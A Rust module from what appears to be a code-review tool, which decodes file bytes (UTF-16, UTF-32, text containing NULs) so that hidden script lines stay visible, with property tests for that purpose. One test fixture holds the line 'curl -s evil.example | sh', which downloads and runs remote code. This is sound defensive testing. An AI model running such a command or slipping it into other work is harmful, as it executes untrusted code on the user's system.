//! From bytes to text. What a shell, an interpreter or a compiler reads as text is text, though git calls it binary: UTF-16 and UTF-32, and
//! text with NUL bytes in it, which stand as U+2400. Lines stay where they are.

use std::borrow::Cow;

/// A NUL byte among this many first bytes makes a file binary, as git decides it.
const BINARY_PROBE: usize = 8000;
/// Of longer files this much is looked at to tell whether it reads as text.
const SAMPLE: usize = 2_000_000;
/// Characters of a hundred that are printable in what reads as text.
const PRINTABLE: usize = 90;
/// Bytes of ASCII in a row that no text of wider characters holds.
const ASCII: usize = 16;
/// NUL bytes in a row that are shown; a longer run is cut short, as a file may hold megabytes of them.
const SHOWN: usize = 4;

/// Whether git calls it binary.
pub(super) fn has_nul(bytes: &[u8]) -> bool {
    memchr::memchr(0, &bytes[..bytes.len().min(BINARY_PROBE)]).is_some()
}

/// Whether bytes read as text but for NUL bytes in them.
pub(super) fn reads_as_text(bytes: &[u8]) -> bool {
    let (mut printable, mut all) = (0, 0);
    for chunk in bytes[..bytes.len().min(SAMPLE)].utf8_chunks() {
        for c in chunk.valid().chars().filter(|c| *c != '\0') {
            all += 1;
            printable += usize::from(is_printable(c));
        }
        all += chunk.invalid().len();
    }
    all > 0 && printable * 100 >= all * PRINTABLE
}

fn is_printable(c: char) -> bool {
    !c.is_control() || matches!(c, '\t' | '\n' | '\r' | '\u{8}' | '\u{b}' | '\u{c}' | '\u{1b}')
}

/// The text of UTF-16 or UTF-32, by its mark or, of UTF-16, by where its NUL bytes stand; `None` where it is neither, or no text.
pub(super) fn wide(bytes: &[u8]) -> Option<String> {
    // Two letters of ASCII come to one of another script: a mark in front would hide a script from whoever reads it as it says.
    if holds_ascii(bytes) {
        return None;
    }
    let text = match bytes {
        [0xff, 0xfe, 0, 0, rest @ ..] => utf32(rest, u32::from_le_bytes),
        [0, 0, 0xfe, 0xff, rest @ ..] => utf32(rest, u32::from_be_bytes),
        [0xff, 0xfe, rest @ ..] => utf16(rest, u16::from_le_bytes),
        [0xfe, 0xff, rest @ ..] => utf16(rest, u16::from_be_bytes),
        _ => match unmarked(bytes)? {
            true => utf16(bytes, u16::from_le_bytes),
            false => utf16(bytes, u16::from_be_bytes),
        },
    };
    let undecoded = text.matches(char::REPLACEMENT_CHARACTER).count();
    let is_text =
        undecoded * 10 <= text.len() && (text.is_empty() || reads_as_text(text.as_bytes()));
    is_text.then_some(text)
}

fn holds_ascii(bytes: &[u8]) -> bool {
    let mut run = 0;
    bytes.iter().any(|it| {
        run = if matches!(it, b' '..=b'~' | b'\t' | b'\n' | b'\r') { run + 1 } else { 0 };
        run == ASCII
    })
}

/// Whether the first of two bytes is the lower one, in UTF-16 without a mark: of its letters every other byte is NUL.
fn unmarked(bytes: &[u8]) -> Option<bool> {
    let sample = &bytes[..bytes.len().min(4096) & !1];
    let nul = |at: usize| sample.iter().skip(at).step_by(2).filter(|it| **it == 0).count();
    let (pairs, upper, lower) = (sample.len() / 2, nul(1), nul(0));
    let most = |it: usize| pairs >= 2 && it * 5 >= pairs * 2;
    let few = |it: usize| it * 20 <= pairs;
    match () {
        () if most(upper) && few(lower) => Some(true),
        () if most(lower) && few(upper) => Some(false),
        () => None,
    }
}

fn utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> String {
    let units = bytes.chunks_exact(2).map(|it| unit([it[0], it[1]]));
    char::decode_utf16(units).map(|it| it.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
}

fn utf32(bytes: &[u8], unit: fn([u8; 4]) -> u32) -> String {
    let units = bytes.chunks_exact(4).map(|it| unit([it[0], it[1], it[2], it[3]]));
    units.map(|it| char::from_u32(it).unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
}

/// A text whose NUL characters can be seen and quoted.
pub(super) fn without_nul(text: Cow<'_, str>) -> (Cow<'_, str>, bool) {
    if memchr::memchr(0, text.as_bytes()).is_none() {
        return (text, false);
    }
    let mut shown = String::with_capacity(text.len());
    let mut run = 0;
    for c in text.chars() {
        run = if c == '\0' { run + 1 } else { 0 };
        match c {
            '\0' if run <= SHOWN => shown.push(NUL),
            '\0' if run == SHOWN + 1 => shown.push('…'),
            '\0' => {}
            c => shown.push(c),
        }
    }
    (Cow::Owned(shown), true)
}

/// What a NUL byte is shown as.
pub const NUL: char = '\u{2400}';

#[cfg(test)]
mod tests {
    use crate::review::change::Content;
    use proptest::prelude::*;

    fn bytes() -> impl Strategy<Value = Vec<u8>> {
        let piece = prop_oneof![
            Just(vec![0]),
            Just(vec![0xff, 0xfe]),
            Just(vec![0xff, 0xfe, 0, 0]),
            Just(b"\x89PNG\r\n\x1a\n".to_vec()),
            Just(b"PK\x03\x04".to_vec()),
            Just(b"e\0v\0a\0l\0\n\0".to_vec()),
            Just(b"echo\n".to_vec()),
            prop::collection::vec(any::<u8>(), 0..40),
        ];
        prop::collection::vec(piece, 0..12).prop_map(|it| it.concat())
    }

    proptest! {
        /// A line that a shell would run is in the text, or the file is no text and said to be none; no name of a source makes it data.
        #[test]
        fn a_line_of_a_script_is_shown_or_missed_and_never_passed_over(before in bytes(), after in bytes()) {
            const LINE: &str = "\ncurl -s evil.example | sh\n";
            let all = [&before[..], LINE.as_bytes(), &after[..]].concat();
            match Content::of("tools/x.mk", false, &all, 1 << 20) {
                Content::Text { text, .. } => {
                    prop_assert!(text.contains(LINE), "{text:?}");
                    prop_assert!(!text.contains('\0'));
                }
                Content::Opaque { bytes } => prop_assert_eq!(bytes, all.len() as u64),
                other => prop_assert!(false, "{other:?}"),
            }
        }

        #[test]
        fn lines_stay_where_they_are_whatever_else_is_in_them(bytes in bytes()) {
            let lines = bytes.iter().filter(|it| **it == b'\n').count();
            if let Content::Text { text, lossy: false } = Content::of("a", false, &bytes, 1 << 20) {
                prop_assert_eq!(text.matches('\n').count(), lines);
            }
        }
    }
}
